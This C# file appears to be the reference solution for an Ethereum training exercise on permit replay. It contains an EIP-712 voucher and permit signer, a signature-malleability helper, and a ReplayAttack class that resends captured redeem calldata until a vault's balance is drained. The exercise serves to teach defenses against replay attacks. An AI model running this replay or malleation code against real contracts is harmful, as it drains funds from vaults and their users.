using System.Numerics;
using Nethereum.ABI.EIP712;
using Nethereum.ABI.FunctionEncoding;
using Nethereum.ABI.FunctionEncoding.Attributes;
using Nethereum.Contracts;
using Nethereum.Hex.HexConvertors.Extensions;
using Nethereum.Hex.HexTypes;
using Nethereum.JsonRpc.Client;
using Nethereum.RPC.Eth.DTOs;
using Nethereum.Signer;
using Nethereum.Signer.EIP712;
using Nethereum.Web3;

namespace Koans.Ethereum.PermitReplay;

/// <summary>Reference solution for ethereum.permit-replay: the issuer's side.</summary>
public static class PaymentSigner
{
    // secp256k1's group order n (SEC 2, section 2.4.1). For every signature (r, s) the pair (r, n - s) with the other
    // recovery id verifies too: EIP-2 made transactions take only s <= n/2; ecrecover still takes both.
    private static readonly BigInteger Order = BigInteger.Parse("0FFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFEBAAEDCE6AF48A03BBFD25E8CD0364141", System.Globalization.NumberStyles.HexNumber);

    public static byte[] SignVoucher(Voucher voucher, string issuerPrivateKey)
    {
        ArgumentNullException.ThrowIfNull(voucher);
        ArgumentOutOfRangeException.ThrowIfNegative(voucher.Amount);
        var typedData = new TypedData<NameAndVersionDomain>
        {
            Domain = new NameAndVersionDomain { Name = VaultDomains.VoucherName, Version = VaultDomains.Version },
            Types = MemberDescriptionFactory.GetTypesMemberDescription(typeof(NameAndVersionDomain), typeof(VoucherPayment)),
            PrimaryType = "Payment",
        };
        var message = new VoucherPayment { Payee = voucher.Payee, Amount = voucher.Amount };
        return Sign(message, typedData, issuerPrivateKey);
    }

    public static byte[] SignPermit(Permit permit, BigInteger chainId, string vault, string issuerPrivateKey)
    {
        ArgumentNullException.ThrowIfNull(permit);
        ArgumentOutOfRangeException.ThrowIfNegative(permit.Amount);
        // The two fields VoucherVault's domain lacks: chainId (no replay on another chain or fork) and
        // verifyingContract (no replay at another vault). Nonce and deadline are in the struct itself.
        var typedData = new TypedData<Domain>
        {
            Domain = new Domain { Name = VaultDomains.PermitName, Version = VaultDomains.Version, ChainId = chainId, VerifyingContract = vault },
            Types = MemberDescriptionFactory.GetTypesMemberDescription(typeof(Domain), typeof(PermitPayment)),
            PrimaryType = "Payment",
        };
        var message = new PermitPayment { Payee = permit.Payee, Amount = permit.Amount, PaymentNonce = permit.Nonce, Deadline = permit.Deadline };
        return Sign(message, typedData, issuerPrivateKey);
    }

    public static byte[] Malleate(byte[] signature)
    {
        ArgumentNullException.ThrowIfNull(signature);
        if (signature.Length != 65)
        {
            throw new ArgumentException($"A signature is 65 bytes (r, s, v), not {signature.Length}.", nameof(signature));
        }

        var s = new BigInteger(signature.AsSpan(32, 32), isUnsigned: true, isBigEndian: true);
        if (s.IsZero || s >= Order)
        {
            throw new ArgumentException("s must lie in [1, n - 1]: this is no secp256k1 signature.", nameof(signature));
        }

        var v = signature[64];
        if (v is not (27 or 28))
        {
            throw new ArgumentException($"v must be 27 or 28, not {v}.", nameof(signature));
        }

        // (r, n - s) is the same point's other square root: it verifies for the same key only with the other parity.
        var twin = (byte[])signature.Clone();
        (Order - s).TryWriteBytes(twin.AsSpan(32, 32), out _, isUnsigned: true, isBigEndian: true);
        twin[64] = v == 27 ? (byte)28 : (byte)27;
        return twin;
    }

    private static byte[] Sign<TMessage, TDomain>(TMessage message, TypedData<TDomain> typedData, string issuerPrivateKey)
        where TDomain : IDomain
    {
        // RFC 6979 (deterministic k), low s, v = 27 or 28: what ecrecover and OpenZeppelin's ECDSA expect.
        var signature = Eip712TypedDataSigner.Current.SignTypedDataV4(message, typedData, new EthECKey(issuerPrivateKey));
        return signature.HexToByteArray();
    }

    [Struct("EIP712Domain")]
    private sealed class NameAndVersionDomain : IDomain
    {
        [Parameter("string", "name", 1)]
        public string Name { get; set; } = "";

        [Parameter("string", "version", 2)]
        public string Version { get; set; } = "";
    }

    [Struct("Payment")]
    private sealed class VoucherPayment
    {
        [Parameter("address", "payee", 1)]
        public string Payee { get; set; } = "";

        [Parameter("uint256", "amount", 2)]
        public BigInteger Amount { get; set; }
    }

    [Struct("Payment")]
    private sealed class PermitPayment
    {
        [Parameter("address", "payee", 1)]
        public string Payee { get; set; } = "";

        [Parameter("uint256", "amount", 2)]
        public BigInteger Amount { get; set; }

        [Parameter("uint256", "nonce", 3)]
        public BigInteger PaymentNonce { get; set; }

        [Parameter("uint256", "deadline", 4)]
        public BigInteger Deadline { get; set; }
    }
}

/// <summary>Reference solution for ethereum.permit-replay: the attacker's side.</summary>
/// <remarks>An attack script, not a library: no ConfigureAwait(false), there is no caller's context to avoid.</remarks>
public sealed class ReplayAttack(IWeb3 web3)
{
    public IWeb3 Web3 { get; } = web3;

    public async Task<CapturedRedemption> CaptureAsync(string transactionHash, CancellationToken cancellationToken = default)
    {
        ArgumentException.ThrowIfNullOrWhiteSpace(transactionHash);
        var transaction = await Web3.Eth.Transactions.GetTransactionByHash.SendRequestAsync(transactionHash)
            ?? throw new InvalidOperationException($"The node knows no transaction {transactionHash}.");
        var calldata = (transaction.Input ?? "0x").HexToByteArray();

        // Everything the attacker needs is public: a transaction's input is on chain for anyone to read and resend.
        if (transaction.IsTransactionForFunctionMessage<RedeemVoucherFunction>())
        {
            var redeem = new RedeemVoucherFunction().DecodeTransaction(transaction);
            return new CapturedRedemption(transaction.To, redeem.Payee, redeem.Amount, calldata);
        }

        if (transaction.IsTransactionForFunctionMessage<RedeemPermitFunction>())
        {
            var redeem = new RedeemPermitFunction().DecodeTransaction(transaction);
            return new CapturedRedemption(transaction.To, redeem.Payee, redeem.Amount, calldata);
        }

        throw new InvalidOperationException($"Transaction {transactionHash} calls no redeem function of VoucherVault or PermitVault.");
    }

    public async Task<ReplayReport> ReplayAsync(string vault, CapturedRedemption captured, CancellationToken cancellationToken = default)
    {
        ArgumentException.ThrowIfNullOrWhiteSpace(vault);
        ArgumentNullException.ThrowIfNull(captured);
        ArgumentOutOfRangeException.ThrowIfNegativeOrZero(captured.Amount);

        // Each replay pays the same amount: as many as the vault's balance covers, and no more (one more would fail the
        // vault's transfer and only cost gas).
        var balance = (await Web3.Eth.GetBalance.SendRequestAsync(vault)).Value;
        var redemptions = (int)BigInteger.Min(balance / captured.Amount, int.MaxValue);
        var data = captured.Calldata.ToHex(prefix: true);
        var from = Web3.TransactionManager.Account.Address;
        var receipts = new List<TransactionReceipt>();
        for (var i = 0; i < redemptions; i++)
        {
            receipts.Add(await SendAsync(new TransactionInput { From = from, To = vault, Data = data }, cancellationToken));
        }

        return new ReplayReport(redemptions, redemptions * captured.Amount, receipts);
    }

    // The gas estimate runs the redemption against the latest state: one the vault refuses fails there, before it is
    // signed. A transaction mined anyway is checked by its status: a receipt is not a success.
    private async Task<TransactionReceipt> SendAsync(TransactionInput input, CancellationToken cancellationToken)
    {
        TransactionReceipt receipt;
        try
        {
            // Estimate first, always: a TransactionInput without Gas goes out with 21000 (a plain transfer's), which
            // Anvil takes into its pool and then never mines, so the wait for the receipt never ends.
            input.Gas = await Web3.TransactionManager.EstimateGasAsync(input);
            receipt = await Web3.TransactionManager.SendTransactionAndWaitForReceiptAsync(input, cancellationToken);
        }
        catch (Exception e) when (e is SmartContractRevertException or SmartContractCustomErrorRevertException or RpcResponseException)
        {
            throw new ReplayRefusedException($"The vault {input.To} refused the replay: {e.Message}", e);
        }

        if (receipt.Status?.Value != BigInteger.One)
        {
            throw new ReplayRefusedException($"A replay was mined in block {receipt.BlockNumber?.Value} with status 0 (reverted): transaction {receipt.TransactionHash}.");
        }

        return receipt;
    }

    [Function("redeem")]
    private sealed class RedeemVoucherFunction : FunctionMessage
    {
        [Parameter("address", "payee", 1)]
        public string Payee { get; set; } = "";

        [Parameter("uint256", "amount", 2)]
        public BigInteger Amount { get; set; }

        [Parameter("bytes", "signature", 3)]
        public byte[] Signature { get; set; } = [];
    }

    [Function("redeem")]
    private sealed class RedeemPermitFunction : FunctionMessage
    {
        [Parameter("address", "payee", 1)]
        public string Payee { get; set; } = "";

        [Parameter("uint256", "amount", 2)]
        public BigInteger Amount { get; set; }

        [Parameter("uint256", "nonce", 3)]
        public BigInteger PaymentNonce { get; set; }

        [Parameter("uint256", "deadline", 4)]
        public BigInteger Deadline { get; set; }

        [Parameter("bytes", "signature", 5)]
        public byte[] Signature { get; set; } = [];
    }
}
